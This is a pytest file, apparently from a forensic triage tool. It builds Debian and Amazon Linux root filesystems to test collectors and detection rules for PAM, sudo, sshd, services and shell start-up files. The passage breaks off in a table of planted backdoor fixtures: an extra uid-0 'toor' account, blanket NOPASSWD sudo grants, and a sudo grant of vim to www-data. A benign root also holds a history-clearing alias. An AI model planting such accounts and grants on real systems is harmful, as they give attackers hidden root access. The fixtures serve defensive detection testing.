"""The config artifact (PAM stacks, shell start-up files, services, sudo grants, sshd settings) over roots laid
out as Debian/Ubuntu cloud images and Amazon Linux/RHEL have them, and the rules of specs/rules/config.yaml:
each rule fires on a root with the behaviour and stays silent (or at most low) on its benign look-alike."""

from __future__ import annotations

import json
import os
import tarfile
from pathlib import Path

import pytest
from conftest import run_triagent, summary_of

from agent.analysis import rules as engine
from collectors.base import Context, FileCopy, Problem, Record
from collectors.files import accounts, config

NOW = 1_800_000_000.0
RULES = [r for r in engine.load_rules() if r.id.startswith("TRI-CONF-")]


def _w(root: Path, path: str, body: str, mode: int = 0o644) -> Path:
    target = root / path.lstrip("/")
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(body)
    os.chmod(target, mode)
    return target


def _link(root: Path, path: str, target: str) -> None:
    where = root / path.lstrip("/")
    where.parent.mkdir(parents=True, exist_ok=True)
    os.symlink(target, where)


def _collect(root: Path) -> tuple[dict[str, list[dict]], list[Problem]]:
    streams: dict[str, list[dict]] = {}
    problems: list[Problem] = []
    ctx = Context(root=str(root), live=False, options={})
    for collector in (accounts.collect, config.collect):
        for item in collector(ctx):
            if isinstance(item, Record):
                streams.setdefault(item.stream, []).append(item.data)
            elif isinstance(item, Problem):
                problems.append(item)
            elif isinstance(item, FileCopy):
                item.close()
    return streams, problems


def _findings(streams: dict[str, list[dict]]) -> dict[str, list[dict]]:
    def rows(source: str):
        for number, record in enumerate(streams.get(source, []), 1):
            yield "source", f"artifacts/{source}.jsonl", number, record

    out: dict[str, list[dict]] = {}
    for finding in engine.evaluate(RULES, rows, NOW):
        out.setdefault(finding["rule"], []).append(finding)
    return out


def _serious(found: dict[str, list[dict]]) -> list[str]:
    return [f"{f['rule']} {f['severity']}: {f['summary']}" for hits in found.values() for f in hits
            if f["severity"] not in ("low", "info")]


# ---- roots as real systems have them ------------------------------------------------------------

DEBIAN_PASSWD = """root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
bin:x:2:2:bin:/bin:/usr/sbin/nologin
sync:x:4:65534:sync:/bin:/bin/sync
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
nagios:x:112:118::/var/lib/nagios:/usr/sbin/nologin
_apt:x:42:65534::/nonexistent:/usr/sbin/nologin
sshd:x:105:65534::/run/sshd:/usr/sbin/nologin
ubuntu:x:1000:1000:Ubuntu:/home/ubuntu:/bin/bash
runner:x:1001:1001:GitHub Actions runner:/home/runner:/bin/bash
"""

DEBIAN_SUDOERS = """#
# This file MUST be edited with the 'visudo' command as root.
#
Defaults\tenv_reset
Defaults\tmail_badpass
Defaults\tsecure_path="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:/snap/bin"
Defaults\tuse_pty

# Host alias specification

# User privilege specification
root\tALL=(ALL:ALL) ALL

# Members of the admin group may gain root privileges
%admin ALL=(ALL) ALL

# Allow members of group sudo to execute any command
%sudo\tALL=(ALL:ALL) ALL

# See sudoers(5) for more information on "@include" directives:

@includedir /etc/sudoers.d
"""

CLOUD_INIT_SUDO = """
# Created by cloud-init v. 23.2.2-0ubuntu0~22.04.1 on Mon, 04 Sep 2023 10:11:12 +0000

# User rules for ubuntu
ubuntu ALL=(ALL) NOPASSWD:ALL
"""

UBUNTU_SSHD = """
# This is the sshd server system-wide configuration file.  See
# sshd_config(5) for more information.

Include /etc/ssh/sshd_config.d/*.conf

#Port 22
#PermitRootLogin prohibit-password
#PubkeyAuthentication yes

# Expect .ssh/authorized_keys2 to be disregarded by default in future.
#AuthorizedKeysFile	.ssh/authorized_keys .ssh/authorized_keys2

# To disable tunneled clear text passwords, change to no here!
#PasswordAuthentication yes
#PermitEmptyPasswords no

KbdInteractiveAuthentication no
UsePAM yes
X11Forwarding yes
PrintMotd no
AcceptEnv LANG LC_*
Subsystem	sftp	/usr/lib/openssh/sftp-server
"""

COMMON_AUTH = """#
# /etc/pam.d/common-auth - authentication settings common to all services
#
# here are the per-package modules (the "Primary" block)
auth	[success=2 default=ignore]	pam_unix.so nullok
auth	[success=1 default=ignore]	pam_sss.so use_first_pass
# here's the fallback if no module succeeds
auth	requisite			pam_deny.so
# prime the stack with a positive return value if there isn't one already;
auth	required			pam_permit.so
# and here are more per-package modules (the "Additional" block)
auth	optional			pam_cap.so
# end of pam-auth-update config
"""

DEBIAN_PAM_SSHD = """# PAM configuration for the Secure Shell service

# Standard Un*x authentication.
@include common-auth

# Disallow non-root logins when /etc/nologin exists.
account    required     pam_nologin.so

# Standard Un*x authorization.
@include common-account

session [success=ok ignore=ignore module_unknown=ignore default=bad]        pam_selinux.so close
session    required     pam_loginuid.so
session    optional     pam_keyinit.so force revoke
@include common-session
session    optional     pam_motd.so  motd=/run/motd.dynamic
session    optional     pam_motd.so noupdate
session    optional     pam_mail.so standard noenv # [1]
session    required     pam_limits.so
session    required     pam_env.so # [1]
session    required     pam_env.so user_readenv=1 envfile=/etc/default/locale
session [success=ok ignore=ignore module_unknown=ignore default=bad]        pam_selinux.so open
# login notification, as the Ubuntu wiki recipe has it
session    optional     pam_exec.so /usr/local/bin/login-notify.sh

@include common-password
"""

DEBIAN_BASHRC = """# ~/.bashrc: executed by bash(1) for non-login shells.

# If not running interactively, don't do anything
case $- in
    *i*) ;;
      *) return;;
esac

# don't put duplicate lines or lines starting with space in the history.
HISTCONTROL=ignoreboth

# append to the history file, don't overwrite it
shopt -s histappend

# for setting history length see HISTSIZE and HISTFILESIZE in bash(1)
HISTSIZE=1000
HISTFILESIZE=2000

shopt -s checkwinsize
[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"
if [ -x /usr/bin/dircolors ]; then
    test -r ~/.dircolors && eval "$(dircolors -b ~/.dircolors)" || eval "$(dircolors -b)"
    alias ls='ls --color=auto'
fi
alias hc='history -c'
if [ -f ~/.bash_aliases ]; then
    . ~/.bash_aliases
fi
. "$HOME/.cargo/env"
"""

DEBIAN_LOGOUT = """# ~/.bash_logout: executed by bash(1) when login shell exits.

# when leaving the console clear the screen to increase privacy

if [ "$SHLVL" = 1 ]; then
    [ -x /usr/bin/clear_console ] && /usr/bin/clear_console -q
fi
"""

DEBIAN_SSH_SERVICE = """[Unit]
Description=OpenBSD Secure Shell server
Documentation=man:sshd(8) man:sshd_config(5)
After=network.target auditd.service
ConditionPathExists=!/etc/ssh/sshd_not_to_be_run

[Service]
EnvironmentFile=-/etc/default/ssh
ExecStartPre=/usr/sbin/sshd -t
ExecStart=/usr/sbin/sshd -D $SSHD_OPTS
ExecReload=/usr/sbin/sshd -t
ExecReload=/bin/kill -HUP $MAINPID
KillMode=process
Restart=on-failure
RestartPreventExitStatus=255
Type=notify
RuntimeDirectory=sshd
RuntimeDirectoryMode=0755

[Install]
WantedBy=multi-user.target
Alias=sshd.service
"""

DEBIAN_INIT_SSH = """#! /bin/sh

### BEGIN INIT INFO
# Provides:		sshd
# Required-Start:	$remote_fs $syslog
### END INIT INFO

set -e

test -x /usr/sbin/sshd || exit 0
( /usr/sbin/sshd -\\? 2>&1 | grep -q OpenSSH ) 2>/dev/null || exit 0

umask 022

. /lib/lsb/init-functions

case "$1" in
  start)
	check_privsep_dir
	check_for_no_start
	check_dev_null
	log_daemon_msg "Starting OpenBSD Secure Shell server" "sshd" || true
	if start-stop-daemon --start --quiet --oknodo --chuid 0:0 --pidfile /run/sshd.pid \\
		--exec /usr/sbin/sshd -- $SSHD_OPTS; then
		log_end_msg 0 || true
	else
		log_end_msg 1 || true
	fi
	;;
esac

exit 0
"""


def debian_cloud_root(root: Path) -> Path:
    """An Ubuntu 22.04 cloud image with a web app, a CI runner and a monitoring agent: all benign."""
    _link(root, "/lib", "usr/lib")  # merged /usr
    _w(root, "/etc/passwd", DEBIAN_PASSWD)
    _w(root, "/etc/group", "root:x:0:\nsudo:x:27:ubuntu\nubuntu:x:1000:\n")
    _w(root, "/etc/sudoers", DEBIAN_SUDOERS, 0o440)
    _w(root, "/etc/sudoers.d/README", "#\n# Files in /etc/sudoers.d are parsed by sudo.\n#\n", 0o440)
    _w(root, "/etc/sudoers.d/90-cloud-init-users", CLOUD_INIT_SUDO, 0o440)
    _w(root, "/etc/sudoers.d/runner", "runner ALL=(ALL) NOPASSWD:ALL\nDefaults env_keep += \"DEBIAN_FRONTEND\"\n")
    _w(root, "/etc/sudoers.d/nagios", "nagios ALL=(root) NOPASSWD: /usr/lib/nagios/plugins/check_raid, "
           "/usr/bin/systemctl status *\n")
    _w(root, "/etc/ssh/sshd_config", UBUNTU_SSHD)
    _w(root, "/etc/ssh/sshd_config.d/50-cloud-init.conf", "PasswordAuthentication yes\n")
    _w(root, "/etc/ssh/sshd_config.d/60-cloudimg-settings.conf", "PasswordAuthentication no\n")
    (root / "usr/lib/x86_64-linux-gnu/security").mkdir(parents=True)
    for module in ("pam_unix.so", "pam_deny.so", "pam_permit.so", "pam_exec.so", "pam_sss.so"):
        _w(root, f"/usr/lib/x86_64-linux-gnu/security/{module}", "\x7fELF")
    _w(root, "/etc/pam.d/common-auth", COMMON_AUTH)
    _w(root, "/etc/pam.d/common-account", "account\t[success=1 new_authtok_reqd=done default=ignore]\tpam_unix.so\n"
           "account\trequisite\t\t\tpam_deny.so\naccount\trequired\t\t\tpam_permit.so\n")
    _w(root, "/etc/pam.d/common-session", "session\t[default=1]\t\t\tpam_permit.so\nsession\trequisite\t\t\t"
           "pam_deny.so\nsession\trequired\t\t\tpam_permit.so\nsession\trequired\tpam_unix.so\n"
           "session\toptional\t\t\tpam_systemd.so\n")
    _w(root, "/etc/pam.d/common-password", "password\t[success=1 default=ignore]\tpam_unix.so obscure yescrypt\n"
           "password\trequisite\t\t\tpam_deny.so\npassword\trequired\t\t\tpam_permit.so\n")
    _w(root, "/etc/pam.d/sshd", DEBIAN_PAM_SSHD)
    _w(root, "/etc/pam.d/su", "auth       sufficient pam_rootok.so\nsession       required   pam_env.so readenv=1\n"
           "@include common-auth\n@include common-account\n@include common-session\n")
    _w(root, "/etc/profile", 'if [ "${PS1-}" ]; then\n  if [ "${BASH-}" ] && [ "$BASH" != "/bin/sh" ]; then\n'
           "    if [ -f /etc/bash.bashrc ]; then\n      . /etc/bash.bashrc\n    fi\n  fi\nfi\n"
           "if [ -d /etc/profile.d ]; then\n  for i in /etc/profile.d/*.sh; do\n    if [ -r $i ]; then\n"
           "      . $i\n    fi\n  done\n  unset i\nfi\n")
    _w(root, "/etc/profile.d/01-locale-fix.sh", '# Make sure the locale variables are set to valid values.\n'
           'eval $(/usr/bin/locale-check C.UTF-8)\n')
    _w(root, "/etc/profile.d/history.sh", "# keep everything, with times (unlimited sizes)\nHISTSIZE=-1\n"
           "HISTFILESIZE=\nHISTTIMEFORMAT='%F %T '\nreadonly HISTFILE\n")
    _w(root, "/etc/bash.bashrc", "[ -z \"$PS1\" ] && return\nshopt -s checkwinsize\n"
           "if [ -x /usr/lib/command-not-found ]; then\n  function command_not_found_handle {\n"
           "    /usr/lib/command-not-found -- \"$1\"\n  }\nfi\n")
    _w(root, "/etc/environment", 'PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:/snap/bin"\n')
    _w(root, "/home/ubuntu/.bashrc", DEBIAN_BASHRC)
    _w(root, "/home/ubuntu/.bash_logout", DEBIAN_LOGOUT)
    _w(root, "/home/ubuntu/.profile", 'if [ -d "$HOME/.local/bin" ] ; then\n    PATH="$HOME/.local/bin:$PATH"\nfi\n')
    _w(root, "/root/.bashrc", DEBIAN_BASHRC)
    _w(root, "/root/.profile", "if [ \"$BASH\" ]; then\n  if [ -f ~/.bashrc ]; then\n    . ~/.bashrc\n  fi\nfi\n"
           "mesg n 2> /dev/null || true\n")
    _w(root, "/usr/lib/systemd/system/ssh.service", DEBIAN_SSH_SERVICE)
    _w(root, "/usr/lib/systemd/system/cron.service", "[Unit]\nDescription=Regular background program processing "
           "daemon\n\n[Service]\nEnvironmentFile=-/etc/default/cron\nExecStart=/usr/sbin/cron -f -P $EXTRA_OPTS\n"
           "IgnoreSIGPIPE=false\nKillMode=process\nRestart=on-failure\n\n[Install]\nWantedBy=multi-user.target\n")
    _w(root, "/usr/lib/systemd/system/systemd-tmpfiles-clean.service", "[Unit]\nDescription=Cleanup of Temporary "
           "Directories\n\n[Service]\nType=oneshot\nExecStart=systemd-tmpfiles --clean\n")
    _w(root, "/usr/lib/systemd/system/apt-daily.timer", "[Unit]\nDescription=Daily apt download activities\n\n"
       "[Timer]\nOnCalendar=*-*-* 6,18:00\nRandomizedDelaySec=12h\nPersistent=true\nUnit=apt-daily.service\n\n"
       "[Install]\nWantedBy=timers.target\n")
    _link(root, "/etc/systemd/system/timers.target.wants/apt-daily.timer", "/lib/systemd/system/apt-daily.timer")
    _link(root, "/etc/systemd/system/multi-user.target.wants/ssh.service", "/lib/systemd/system/ssh.service")
    _link(root, "/etc/systemd/system/multi-user.target.wants/cron.service", "/lib/systemd/system/cron.service")
    _link(root, "/etc/systemd/system/sshd.service", "/lib/systemd/system/ssh.service")
    _link(root, "/etc/systemd/system/apport.service", "/dev/null")
    _w(root, "/etc/systemd/system/webapp.service", "[Unit]\nDescription=Web app\nAfter=postgresql.service\n\n"
           "[Service]\nUser=www-data\nWorkingDirectory=/opt/app\n"
           "ExecStartPre=/bin/bash -c 'until echo > /dev/tcp/127.0.0.1/5432; do sleep 1; done'\n"
           "ExecStart=/opt/app/.venv/bin/gunicorn --workers 4 --bind 127.0.0.1:8000 app:app\n"
           "ExecStartPost=/usr/bin/curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/5f1c2a\n"
           "Restart=always\n\n[Install]\nWantedBy=multi-user.target\n")
    _link(root, "/etc/systemd/system/multi-user.target.wants/webapp.service", "/etc/systemd/system/webapp.service")
    _w(root, "/etc/systemd/system/ssh.service.d/override.conf", "[Service]\nExecStart=\n"
           "ExecStart=/usr/sbin/sshd -D -o LogLevel=VERBOSE $SSHD_OPTS\n")
    _w(root, "/home/ubuntu/.config/systemd/user/syncthing.service", "[Unit]\nDescription=Syncthing\n\n[Service]\n"
           "ExecStart=%h/.local/bin/syncthing serve --no-browser --no-restart\nRestart=on-failure\n\n[Install]\n"
           "WantedBy=default.target\n")
    _link(root, "/home/ubuntu/.config/systemd/user/default.target.wants/syncthing.service",
          "/home/ubuntu/.config/systemd/user/syncthing.service")
    _w(root, "/etc/init.d/ssh", DEBIAN_INIT_SSH, 0o755)
    _link(root, "/etc/rc2.d/S01ssh", "../init.d/ssh")
    return root


AL2023_SYSTEM_AUTH = """#%PAM-1.0
# This file is auto-generated.
# User changes will be destroyed the next time authselect is run.
auth        required                                     pam_env.so
auth        required                                     pam_faildelay.so delay=2000000
auth        [default=1 ignore=ignore success=ok]         pam_usertype.so isregular
auth        [default=1 ignore=ignore success=ok]         pam_localuser.so
auth        sufficient                                   pam_unix.so nullok
auth        [default=1 ignore=ignore success=ok]         pam_usertype.so isregular
auth        sufficient                                   pam_sss.so forward_pass
auth        required                                     pam_deny.so

account     required                                     pam_unix.so
account     sufficient                                   pam_localuser.so
account     sufficient                                   pam_usertype.so issystem
account     [default=bad success=ok user_unknown=ignore] pam_sss.so
account     required                                     pam_permit.so

password    requisite                                    pam_pwquality.so local_users_only
password    sufficient                                   pam_unix.so yescrypt shadow nullok use_authtok
password    [success=1 default=ignore]                   pam_sss.so use_authtok
password    required                                     pam_deny.so

session     optional                                     pam_keyinit.so revoke
session     required                                     pam_limits.so
-session    optional                                     pam_systemd.so
session     [success=1 default=ignore]                   pam_succeed_if.so service in crond quiet use_uid
session     required                                     pam_unix.so
session     optional                                     pam_sss.so
"""

AL2023_PAM_SSHD = """#%PAM-1.0
auth       substack     password-auth
auth       include      postlogin
account    required     pam_sepermit.so
account    required     pam_nologin.so
account    include      password-auth
password   include      password-auth
# pam_selinux.so close should be the first session rule
session    required     pam_selinux.so close
session    required     pam_loginuid.so
# pam_selinux.so open should only be followed by sessions to be executed in the user context
session    required     pam_selinux.so open env_params
session    required     pam_namespace.so
session    optional     pam_keyinit.so force revoke
session    optional     pam_motd.so
session    include      password-auth
session    include      postlogin
"""

RHEL_NETWORK_INIT = """#! /bin/bash
#
# network       Bring up/down networking
#
# chkconfig: 2345 10 90
# description: Activates/Deactivates all network interfaces configured to \\
#              start at boot time.
### BEGIN INIT INFO
# Provides: $network
### END INIT INFO

# Source function library.
. /etc/init.d/functions

if [ ! -f /etc/sysconfig/network ]; then
    exit 6
fi

. /etc/sysconfig/network

cd /etc/sysconfig/network-scripts
. ./network-functions

case "$1" in
start)
        [ "$EUID" != "0" ] && exit 4
        rc=0
        /sbin/sysctl -e -p /etc/sysctl.conf >/dev/null 2>&1
        action $"Bringing up loopback interface: " ./ifup ifcfg-lo
        daemon --pidfile=/var/run/dhclient.pid /sbin/dhclient -q
        touch /var/lock/subsys/network
        ;;
esac

exit $rc
"""


def amazon_linux_root(root: Path) -> Path:
    """Amazon Linux 2023: authselect PAM (substack/include), EC2 Instance Connect, /etc/init.d a link."""
    _w(root, "/etc/os-release", 'NAME="Amazon Linux"\nVERSION="2023"\nID="amzn"\n')
    _w(root, "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nbin:x:1:1:bin:/bin:/sbin/nologin\n"
           "sync:x:5:0:sync:/sbin:/bin/sync\nshutdown:x:6:0:shutdown:/sbin:/sbin/shutdown\n"
           "halt:x:7:0:halt:/sbin:/sbin/halt\noperator:x:11:0:operator:/root:/sbin/nologin\n"
           "ec2-instance-connect:x:996:994::/home/ec2-instance-connect:/sbin/nologin\n"
           "ssm-user:x:1001:1001::/home/ssm-user:/bin/bash\nec2-user:x:1000:1000:EC2 Default User:"
           "/home/ec2-user:/bin/bash\n")
    _w(root, "/etc/sudoers", "Defaults   !visiblepw\nDefaults    always_set_home\nroot\tALL=(ALL) \tALL\n"
           "%wheel\tALL=(ALL)\tALL\n# %wheel\tALL=(ALL)\tNOPASSWD: ALL\n#includedir /etc/sudoers.d\n", 0o440)
    _w(root, "/etc/sudoers.d/90-cloud-init-users", "# Created by cloud-init v. 22.2.2 on Fri, 01 Sep 2023\n\n"
           "# User rules for ec2-user\nec2-user ALL=(ALL) NOPASSWD:ALL\n", 0o440)
    _w(root, "/etc/sudoers.d/ssm-agent-users", "# User rules for ssm-user\nssm-user ALL=(ALL) NOPASSWD:ALL\n",
       0o440)
    _w(root, "/etc/ssh/sshd_config", "Include /etc/ssh/sshd_config.d/*.conf\n#PermitRootLogin prohibit-password\n"
           "AuthorizedKeysFile .ssh/authorized_keys\nPasswordAuthentication no\nUsePAM yes\n"
           "Subsystem\tsftp\t/usr/libexec/openssh/sftp-server\n")
    _w(root, "/etc/ssh/sshd_config.d/50-redhat.conf", "SyslogFacility AUTHPRIV\nChallengeResponseAuthentication no\n"
           "GSSAPIAuthentication yes\nX11Forwarding yes\nPrintMotd no\n")
    _w(root, "/etc/ssh/sshd_config.d/60-ec2-instance-connect.conf",
       "AuthorizedKeysCommand /usr/share/ec2-instance-connect/eic_run_authorized_keys %u %f\n"
       "AuthorizedKeysCommandUser ec2-instance-connect\n")
    for module in ("pam_unix.so", "pam_deny.so", "pam_sss.so", "pam_env.so"):
        _w(root, f"/usr/lib64/security/{module}", "\x7fELF")
    _w(root, "/etc/pam.d/system-auth", AL2023_SYSTEM_AUTH)
    _w(root, "/etc/pam.d/password-auth", AL2023_SYSTEM_AUTH)
    _w(root, "/etc/pam.d/postlogin", "#%PAM-1.0\nsession optional                   pam_umask.so silent\n"
           "session [success=1 default=ignore] pam_succeed_if.so service !~ gdm* service !~ su* quiet\n"
           "session [default=1]                pam_lastlog.so nowtmp showfailed\n"
           "session optional                   pam_lastlog.so silent noupdate showfailed\n")
    _w(root, "/etc/pam.d/sshd", AL2023_PAM_SSHD)
    _w(root, "/etc/profile", 'pathmunge () {\n    case ":${PATH}:" in\n        *:"$1":*)\n            ;;\n'
           "        *)\n            PATH=$PATH:$1\n    esac\n}\nHOSTNAME=$(/usr/bin/hostnamectl --transient "
           "2>/dev/null) || \\\nHOSTNAME=$(/usr/bin/hostname 2>/dev/null)\nHISTSIZE=1000\n"
           'if [ "$HISTCONTROL" = "ignorespace" ] ; then\n    export HISTCONTROL=ignoreboth\nelse\n'
           "    export HISTCONTROL=ignoredups\nfi\nexport PATH USER LOGNAME MAIL HOSTNAME HISTSIZE HISTCONTROL\n")
    _w(root, "/etc/bashrc", '[ -z "$PS1" ] && return\nshopt -s histappend\nhistory -a\n')
    _w(root, "/etc/rc.d/init.d/network", RHEL_NETWORK_INIT, 0o755)
    _w(root, "/etc/rc.d/init.d/functions", "# -*-Shell-script-*-\nTEXTDOMAIN=initscripts\numask 022\n")
    _link(root, "/etc/init.d", "rc.d/init.d")
    _w(root, "/etc/rc.d/rc.local", "#!/bin/bash\n# THIS FILE IS ADDED FOR COMPATIBILITY PURPOSES\n"
           "touch /var/lock/subsys/local\n", 0o644)
    _link(root, "/etc/rc.local", "rc.d/rc.local")
    _link(root, "/etc/rc.d/rc3.d/S10network", "../init.d/network")
    _w(root, "/usr/lib/systemd/system/amazon-ssm-agent.service", "[Unit]\nDescription=amazon-ssm-agent\n"
           "[Service]\nType=simple\nWorkingDirectory=/usr/bin/\nExecStart=/usr/bin/amazon-ssm-agent\n"
           "KillMode=process\nRestart=always\nRestartSec=90\n\n[Install]\nWantedBy=multi-user.target\n")
    _link(root, "/etc/systemd/system/multi-user.target.wants/amazon-ssm-agent.service",
          "/usr/lib/systemd/system/amazon-ssm-agent.service")
    _w(root, "/home/ec2-user/.bashrc", "if [ -f /etc/bashrc ]; then\n\t. /etc/bashrc\nfi\n"
           "export SYSTEMD_PAGER=\n")
    return root


# ---- the benign roots ---------------------------------------------------------------------------

def test_debian_cloud_image_records_and_no_finding(tmp_path):
    streams, problems = _collect(debian_cloud_root(tmp_path / "root"))
    assert not [p for p in problems if p.level == "error"], problems
    pam = streams["pam"]
    # @include followed: sshd's stack holds common-auth's lines, named by their own file and line
    sshd_auth = [r for r in pam if r["service"] == "sshd" and r.get("type") == "auth"]
    assert [(r["file"], r["line"], r["module_name"]) for r in sshd_auth][:2] == [
        ("/etc/pam.d/common-auth", 5, "pam_unix.so"), ("/etc/pam.d/common-auth", 6, "pam_sss.so")]
    first = sshd_auth[0]
    assert first["via"] == ["/etc/pam.d/sshd"] and first["control_kind"] == "bracket"
    assert first["actions"] == {"success": "2", "default": "ignore"} and first["short_circuit"] is True
    # as libpam names it (its multiarch folder), found through merged /usr's /lib link
    assert first["module_path"] == "/lib/x86_64-linux-gnu/security/pam_unix.so"
    assert first["module_real_path"] == "/usr/lib/x86_64-linux-gnu/security/pam_unix.so"
    assert first["module_in_distro_dir"] and first["module_known"] and first["module_found"]
    motd = next(r for r in pam if r["file"] == "/etc/pam.d/sshd" and r["line"] == 16)
    assert motd["args"] == ["motd=/run/motd.dynamic"] and motd["control"] == "optional"
    mail = next(r for r in pam if r["file"] == "/etc/pam.d/sshd" and r["line"] == 18)
    assert mail["args"] == ["standard", "noenv"]  # "# [1]" is a comment to libpam
    # shell start-up files: the distro's history settings are there, as values
    rc = streams["shell_rc"]
    sizes = [r for r in rc if r["file"] == "/home/ubuntu/.bashrc" and (r["environment"] or {}).get("HISTSIZE")]
    assert sizes and sizes[0]["environment"] == {"HISTSIZE": "1000"} and sizes[0]["user"] == "ubuntu"
    assert any(r.get("alias") == "hc" for r in rc)
    assert {r["kind"] for r in rc if r["file"].endswith(".bash_logout")} == {"logout"}
    # services: vendor units through merged /usr's /lib link (each once), enabled by their wants/ links
    units = {(r["unit"], r["path"]): r for r in streams["services"] if r["kind"] == "systemd"}
    ssh = units[("ssh.service", "/usr/lib/systemd/system/ssh.service")]
    assert ssh["enabled"] and ssh["exec"]["ExecStart"] == ["/usr/sbin/sshd -D $SSHD_OPTS"]
    assert ssh["restart"] == "on-failure" and ssh["wanted_by"] == ["multi-user.target"] and ssh["mtime_ns"]
    assert ssh["type"] == "service" and ssh["service_type"] == "notify" and ssh["aliases"] == ["sshd.service"]
    timer = units[("apt-daily.timer", "/usr/lib/systemd/system/apt-daily.timer")]
    assert timer["type"] == "timer" and timer["activates"] == "apt-daily.service" and timer["enabled"]
    assert timer["oncalendar"] == "*-*-* 6,18:00"
    assert sum(1 for unit, _ in units if unit == "ssh.service") == 2  # the unit and its drop-in
    dropin = units[("ssh.service", "/etc/systemd/system/ssh.service.d/override.conf")]
    assert dropin["dropin"] and dropin["exec"]["ExecStart"] == ["/usr/sbin/sshd -D -o LogLevel=VERBOSE $SSHD_OPTS"]
    web = units[("webapp.service", "/etc/systemd/system/webapp.service")]
    assert web["user"] == "www-data" and web["enabled"] and "/opt/app/.venv/bin/gunicorn" in web["executables"]
    sync = units[("syncthing.service", "/home/ubuntu/.config/systemd/user/syncthing.service")]
    assert sync["scope"] == "user" and sync["owner"] == "ubuntu" and sync["enabled"]
    assert not units[("systemd-tmpfiles-clean.service", "/usr/lib/systemd/system/systemd-tmpfiles-clean.service")][
        "enabled"]
    assert "apport.service" not in {u for u, _ in units}  # masked: a link to /dev/null
    init = [r for r in streams["services"] if r["kind"] == "sysv" and r["path"] == "/etc/init.d/ssh"]
    assert init and init[0]["start_links"] == ["/etc/rc2.d/S01ssh"]
    assert any("/usr/sbin/sshd" in (r["executables"] or []) for r in init)
    # sudo: the cloud-init grant is recorded as it is
    grant = next(r for r in streams["sudo_rules"] if r["file"] == "/etc/sudoers.d/90-cloud-init-users")
    assert grant["user"] == "ubuntu" and grant["nopasswd_all"] and grant["active"] and not grant["account_system"]
    # sshd: first value wins, Include followed in place (cloud-init's drop-in is read before the image's)
    effective = {r["keyword"]: r for r in streams["sshd_settings"] if r["effective"]}
    assert effective["passwordauthentication"]["path"] == "/etc/ssh/sshd_config.d/50-cloud-init.conf"
    ignored = [r for r in streams["sshd_settings"] if r["path"].endswith("60-cloudimg-settings.conf")]
    assert ignored and not ignored[0]["effective"]
    found = _findings(streams)
    assert _serious(found) == [], _serious(found)
    assert set(found) <= {"TRI-CONF-021"}, found  # cloud-init's PasswordAuthentication yes: a low


def test_amazon_linux_records_and_no_finding(tmp_path):
    streams, problems = _collect(amazon_linux_root(tmp_path / "root"))
    assert not [p for p in problems if p.level == "error"], problems
    pam = streams["pam"]
    substack = [r for r in pam if r["service"] == "sshd" and r["file"] == "/etc/pam.d/password-auth"]
    assert substack and substack[0]["via"] == ["/etc/pam.d/sshd"]
    unix = next(r for r in substack if r.get("module_name") == "pam_unix.so" and r["type"] == "auth")
    assert unix["module_path"] == "/usr/lib64/security/pam_unix.so" and unix["short_circuit"] is True
    optional = next(r for r in pam if r["file"] == "/etc/pam.d/system-auth"
                    and r.get("module_name") == "pam_systemd.so")
    assert optional["optional"] is True and optional["type"] == "session"
    # /etc/init.d -> rc.d/init.d and /etc/rc.local -> rc.d/rc.local: the scripts are reached, once each
    sysv = [r for r in streams["services"] if r["kind"] == "sysv"]
    paths = {r["path"] for r in sysv}
    assert "/etc/rc.d/init.d/network" in paths and "/etc/rc.d/init.d/functions" in paths
    assert len([p for p in paths if p.endswith("rc.local")]) == 1
    net = [r for r in sysv if r["path"] == "/etc/rc.d/init.d/network"]
    assert net[0]["start_links"] == ["/etc/rc.d/rc3.d/S10network"]
    assert any("/sbin/dhclient" in (r["executables"] or []) for r in net)
    local = next(r for r in sysv if r["path"].endswith("rc.local"))
    assert local["executable_file"] is False and local["command"] == "touch /var/lock/subsys/local"
    users = {u["name"]: u for u in streams["users"]}
    assert users["operator"]["gid"] == 0 and users["operator"]["uid"] == 11
    found = _findings(streams)
    assert found == {}, [f["summary"] for hits in found.values() for f in hits]


# ---- each rule: the behaviour, and its look-alike ----------------------------------------------

def _base(root: Path) -> Path:
    _w(root, "/etc/passwd", DEBIAN_PASSWD)
    _w(root, "/etc/sudoers", DEBIAN_SUDOERS, 0o440)
    _w(root, "/etc/sudoers.d/90-cloud-init-users", CLOUD_INIT_SUDO, 0o440)
    _w(root, "/etc/ssh/sshd_config", UBUNTU_SSHD)
    _w(root, "/etc/pam.d/common-auth", COMMON_AUTH)
    _w(root, "/etc/pam.d/sshd", DEBIAN_PAM_SSHD)
    (root / "lib/x86_64-linux-gnu/security").mkdir(parents=True)
    _w(root, "/home/ubuntu/.bashrc", DEBIAN_BASHRC)
    _w(root, "/home/ubuntu/.bash_logout", DEBIAN_LOGOUT)
    return root


CASES = {
    # rule: (files that plant the behaviour, files of its benign look-alike)
    "TRI-CONF-001": ({"/etc/passwd": DEBIAN_PASSWD + "toor:x:0:0::/root:/bin/bash\n"},
                     {"/etc/passwd": DEBIAN_PASSWD + "operator:x:11:0:operator:/root:/sbin/nologin\n"}),
    "TRI-CONF-002": ({"/etc/passwd": DEBIAN_PASSWD + "sysadm:x:0:0::/:/usr/sbin/nologin\n"},
                     {"/etc/passwd": DEBIAN_PASSWD + "shutdown:x:6:0:shutdown:/sbin:/sbin/shutdown\n"}),
    "TRI-CONF-010": ({"/etc/sudoers.d/zz": "ALL ALL=(ALL) NOPASSWD: ALL\n"},
                     {"/etc/sudoers.d/zz": "ALL ALL=(root) /usr/bin/passwd\n"}),
    "TRI-CONF-011": ({"/etc/sudoers.d/www": "www-data ALL=(root) NOPASSWD: /usr/bin/vim /etc/nginx/nginx.conf\n"},
                     {"/etc/sudoers.d/www": "www-data ALL=(root) NOPASSWD: /usr/sbin/nginx -s reload\n"
                      "nagios ALL=(root) NOPASSWD: /usr/lib/nagios/plugins/check_raid\n"}),
    "TRI-CONF-012": ({"/etc/sudoers.d/deploy": "User_Alias DEPLOYERS = deploy, svc-ci\n"
                      "DEPLOYERS ALL=(ALL) NOPASSWD:ALL\n"},
